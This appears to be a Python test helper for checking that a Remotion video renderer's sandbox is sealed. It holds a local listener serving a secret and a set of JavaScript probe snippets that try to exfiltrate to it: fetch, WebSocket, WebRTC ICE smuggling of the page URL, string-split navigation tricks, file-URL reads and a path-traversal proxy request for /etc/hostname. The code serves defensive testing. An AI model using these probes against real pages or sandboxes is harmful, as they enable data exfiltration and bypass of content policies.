"""Hostile clips for the sealing tests: a listener that counts every connection and serves
a secret, and clip code that tries to reach it in many ways at once.

A probe clip runs every probe inside one render and paints one cell per probe: green
when the probe was blocked, red when it read anything back, blue when it cannot tell
(a beacon, a popup, a CSS background: the listener's counters tell for those). The
listener names each hit by its path, so every probe is checked on its own.
"""
import json
import socket
import threading
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

SECRET = "montage-listener-secret-7f3a9c"
# What the listener answers for *.svg: a legitimate asset when its host is allowed.
RED_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16"><rect width="16" height="16" fill="#ff0000"/></svg>'

# JavaScript expressions evaluating to a Promise of 'leak' | 'blocked' | 'sent'. `L` is
# the listener's origin, `P` the origin of the renderer's media proxy (/proxy: the warm
# service serves the bundle from another origin), the page's own where there is none (a
# preview). Each probe requests a path of its own name, so the listener's counters are
# per probe.
PROBES = {
    "img": "new Promise((r) => { const i = new Image(); i.onload = () => r('leak'); i.onerror = () => r('blocked'); i.src = L + '/img'; })",
    "css_background": "new Promise((r) => { const d = document.createElement('div'); d.style.cssText = `width:9px;height:9px;background-image:url(${L}/css_background)`; document.body.appendChild(d); setTimeout(() => r('sent'), 800); })",
    "font": "new FontFace('probe', `url(${L}/font)`).load().then(() => 'leak', () => 'blocked')",
    "beacon": "Promise.resolve(navigator.sendBeacon(L + '/beacon', 'x') ? 'sent' : 'blocked')",
    "fetch": "fetch(L + '/fetch').then((r) => r.text()).then((t) => (t ? 'leak' : 'blocked'), () => 'blocked')",
    "xhr": "new Promise((r) => { const x = new XMLHttpRequest(); x.onload = () => r(x.responseText ? 'leak' : 'blocked'); x.onerror = () => r('blocked'); x.open('GET', L + '/xhr'); x.send(); })",
    "websocket": "new Promise((r) => { const w = new WebSocket(L.replace('http', 'ws') + '/websocket'); w.onopen = () => r('leak'); w.onmessage = () => r('leak'); w.onerror = () => r('blocked'); })",
    "eventsource": "new Promise((r) => { const e = new EventSource(L + '/eventsource'); e.onmessage = () => r('leak'); e.onopen = () => r('leak'); e.onerror = () => { e.close(); r('blocked'); }; })",
    "iframe": "new Promise((r) => { const f = document.createElement('iframe'); f.src = L + '/iframe'; document.body.appendChild(f); setTimeout(() => { try { r(f.contentDocument && f.contentDocument.body.innerText.includes('secret') ? 'leak' : 'sent'); } catch (e) { r('sent'); } }, 800); })",
    "script_tag": "new Promise((r) => { const s = document.createElement('script'); s.src = L + '/script_tag'; s.onload = () => r('leak'); s.onerror = () => r('blocked'); document.head.appendChild(s); })",
    "window_open": "Promise.resolve(window.open(L + '/window_open') ? 'leak' : 'blocked')",
    "form_submit": "new Promise((r) => { const f = document.createElement('form'); f.action = L + '/form_submit'; f.method = 'POST'; f.target = '_blank'; document.body.appendChild(f); f.submit(); setTimeout(() => r('sent'), 800); })",
    "dynamic_import": "new Function('u', 'return import(u)')(L + '/dynamic_import').then(() => 'leak', () => 'blocked')",
    "worker": "new Promise((r) => { try { const w = new Worker(URL.createObjectURL(new Blob([`fetch('${L}/worker')`]))); w.onerror = () => r('blocked'); setTimeout(() => r('sent'), 800); } catch (e) { r('blocked'); } })",
    "file_url": "fetch('file:///etc/hostname').then((r) => r.text()).then((t) => (t ? 'leak' : 'blocked'), () => 'blocked')",
    "proxy_internal": "new Promise((r) => { const i = new Image(); i.onload = () => r('leak'); i.onerror = () => r('blocked'); i.src = P + '/proxy?src=' + encodeURIComponent(L + '/proxy_internal') + '&time=0&transparent=false&toneMapped=false'; })",
    "proxy_external": "new Promise((r) => { const i = new Image(); i.onload = () => r('leak'); i.onerror = () => r('blocked'); i.src = P + '/proxy?src=' + encodeURIComponent('https://example.com/video.mp4') + '&time=0&transparent=false&toneMapped=false'; })",
    "webpack_require": "new Promise((r) => { const key = Object.keys(self).find((k) => k.startsWith('webpackChunk')); let req = null; if (key) { self[key].push([[Symbol('probe')], {}, (q) => { req = q; }]); } if (!req || !req.l) { r('blocked'); return; } req.l(L + '/webpack_require', (ev) => r(ev.type === 'load' ? 'leak' : 'blocked'), 'probe'); })",
}
# Probes the page's policy does not govern (Chromium has no navigate-to, a new frame has
# globals of its own, WebRTC's ICE goes to IP literals): the seal closes what the page can
# close, and the network namespace keeps the rest off the network. Each was found
# reaching a listener by the hostile-code audit without the namespace. A navigation
# that got through ends the page, and with it the render: the probes' colours are then
# never painted.
NAVIGATION_PROBES = {
    "popup_via_frame": "new Promise((r) => { const f = document.createElement('iframe'); document.body.appendChild(f); try { r(f.contentWindow.open(L + '/popup_via_frame') ? 'sent' : 'blocked'); } catch (e) { r('blocked'); } })",
    "popup_via_window_index": "new Promise((r) => { const f = document.createElement('iframe'); document.body.appendChild(f); try { r(window[window.length - 1].open(L + '/popup_via_window_index') ? 'sent' : 'blocked'); } catch (e) { r('blocked'); } })",
    "anchor_popup": "new Promise((r) => { const a = document.createElement('a'); a.href = L + '/anchor_popup'; a.target = '_blank'; document.body.appendChild(a); a.click(); setTimeout(() => r('sent'), 800); })",
    "anchor_click": "new Promise((r) => { const a = document.createElement('a'); a.href = L + '/anchor_click'; document.body.appendChild(a); a.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})); setTimeout(() => r('sent'), 800); })",
    "location_computed": "new Promise((r) => { window['loc' + 'ation'] = L + '/location_computed'; setTimeout(() => r('sent'), 800); })",
    "navigation_api": "new Promise((r) => { const n = navigation.navigate(L + '/navigation_api'); n.committed.catch(() => null); n.finished.then(() => r('leak'), () => r('blocked')); setTimeout(() => r('sent'), 800); })",
    "meta_refresh": "new Promise((r) => { const m = document['create' + 'Element']('me' + 'ta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + L + '/meta_refresh'; document.head.appendChild(m); setTimeout(() => r('sent'), 800); })",
    "innerhtml_meta": "new Promise((r) => { const d = document.createElement('div'); Object.assign(d, {['inner' + 'HTML']: `<meta http-equiv=\"refresh\" content=\"0;url=${L}/innerhtml_meta\">`}); document.body.appendChild(d); setTimeout(() => r('sent'), 800); })",
    "form_same_frame": "new Promise((r) => { const f = document.createElement('form'); f.action = L + '/form_same_frame'; document.body.appendChild(f); HTMLFormElement.prototype.submit.call(f); setTimeout(() => r('sent'), 800); })",
    "webrtc_stun": "new Promise((r) => { const C = window['RTC' + 'PeerConnection'] || window['webkit' + 'RTCPeerConnection']; if (!C) { r('blocked'); return; } const pc = new C({iceServers: [{urls: 'stun:' + U}]}); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)); setTimeout(() => r('sent'), 1500); })",
    "webrtc_ice_checks": "new Promise((r) => { const C = window['RTC' + 'PeerConnection']; if (!C) { r('blocked'); return; } const pc = new C(); pc.createDataChannel('x'); const ufrag = [...new TextEncoder().encode(location.href.slice(0, 60))].map((b) => b.toString(16).padStart(2, '0')).join(''); pc.createOffer().then((o) => pc.setLocalDescription(o).then(() => pc.setRemoteDescription({type: 'answer', sdp: o.sdp.replace(/a=ice-ufrag:.*\\r\\n/, `a=ice-ufrag:${ufrag}\\r\\n`).replace('a=setup:actpass', 'a=setup:active') + `a=candidate:1 1 udp 2122260223 ${U.split(':')[0]} ${U.split(':')[1]} typ host\\r\\n`}))).catch(() => r('blocked')); setTimeout(() => r('sent'), 1500); })",
}
# Remotion's own /proxy route, asked for a local path (Remotion hands `same-as-...`
# sources to its frame extractor as files): only the asset guard's answer is 'blocked'.
# It starts a second late: the seal's answer to a meta refresh (window.stop()) aborts
# requests in flight.
PROXY_ROUTE_PROBES = {
    "proxy_local_path": "new Promise((r) => setTimeout(r, 1000)).then(() => fetch(P + '/proxy?src=' + encodeURIComponent('same-as-0-0/../../../../../../etc/hostname') + '&time=0&transparent=false&toneMapped=false').then((res) => res.json()).then((j) => (/is not allowed/.test(j.error) ? 'blocked' : 'leak'), () => 'leak'))",
}
PROBE_TIMEOUT_MS = 3000

PROBE_CLIP = """import {AbsoluteFill, continueRender, delayRender} from 'remotion';
import {useEffect, useState} from 'react';

const L = LISTENER;
const U = L.replace('http://', '');
const P = window.remotion_proxyPort ? `http://localhost:${window.remotion_proxyPort}` : window.location.origin;
const PROBES = {BODIES};
const settle = (name) => Promise.race([
  Promise.resolve().then(() => PROBES[name]()).catch(() => 'blocked'),
  new Promise((r) => setTimeout(() => r('blocked'), TIMEOUT)),
]);
const COLOURS = {blocked: '#00ff00', leak: '#ff0000', sent: '#0000ff'};

export default function Hostile() {
  const [handle] = useState(() => delayRender('probes'));
  const [results, setResults] = useState(null);
  useEffect(() => {
    Promise.all(Object.keys(PROBES).map(settle)).then((r) => {
      setResults(r);
      continueRender(handle);
    });
  }, [handle]);
  return (
    <AbsoluteFill style={{flexDirection: 'row', backgroundColor: 'black'}}>
      {(results || []).map((result, index) => (
        <div key={index} style={{flex: 1, backgroundColor: COLOURS[result] || '#ffffff'}} />
      ))}
    </AbsoluteFill>
  );
}
"""


def assert_readable_failure(progress):
    assert progress.fatal_error and SECRET not in progress.fatal_error
    assert len(progress.fatal_error) < 2000 and "\x00" not in progress.fatal_error


def probe_clip(listener_origin, probes):
    bodies = "{" + ",\n".join(f"{json.dumps(name)}: () => {body}" for name, body in probes.items()) + "}"
    return (
        PROBE_CLIP.replace("LISTENER", json.dumps(listener_origin))
        .replace("{BODIES}", bodies)
        .replace("TIMEOUT", str(PROBE_TIMEOUT_MS))
    )


class Listener:
    """A server on another local port that counts TCP connections, requests per path and
    UDP datagrams (on the same port number: STUN and ICE checks), and answers every HTTP
    request with the secret (CORS open, so a browser would let it be read), except *.svg
    paths (a red square) and the `files` it is given ({path: (content type, bytes)}: an
    asset host's files)."""

    def __init__(self, files=None):
        self.connections = 0
        self.datagrams = 0
        self.hits = Counter()
        self._lock = threading.Lock()
        listener = self
        files = files or {}

        class Handler(BaseHTTPRequestHandler):
            def _answer(self):
                path = self.path.split("?")[0].strip("/")
                with listener._lock:
                    listener.hits[path] += 1
                if path in files:
                    content_type, body = files[path]
                elif path.endswith(".svg"):
                    content_type, body = "image/svg+xml", RED_SVG
                else:
                    content_type, body = "application/json", json.dumps({"secret": SECRET}).encode()
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_OPTIONS = _answer

            def log_message(self, *args):
                pass

        class Server(ThreadingHTTPServer):
            daemon_threads = True

            def verify_request(self, request, client_address):
                with listener._lock:
                    listener.connections += 1
                return True

        self._server = Server(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self.origin = f"http://127.0.0.1:{self.port}"
        self.host = f"127.0.0.1:{self.port}"
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        self._udp.settimeout(0.2)
        self._stopped = threading.Event()
        self._threads = [
            threading.Thread(target=self._server.serve_forever, daemon=True),
            threading.Thread(target=self._count_datagrams, daemon=True),
        ]

    def _count_datagrams(self):
        while not self._stopped.is_set():
            try:
                self._udp.recv(65536)
            except TimeoutError:
                continue
            except OSError:
                return
            with self._lock:
                self.datagrams += 1

    def reached(self):
        """Everything that got here: (TCP connections, UDP datagrams, requests per path)."""
        with self._lock:
            return self.connections, self.datagrams, dict(self.hits)

    def __enter__(self):
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *exc):
        self._server.shutdown()
        self._server.server_close()
        self._stopped.set()
        self._threads[1].join()
        self._udp.close()
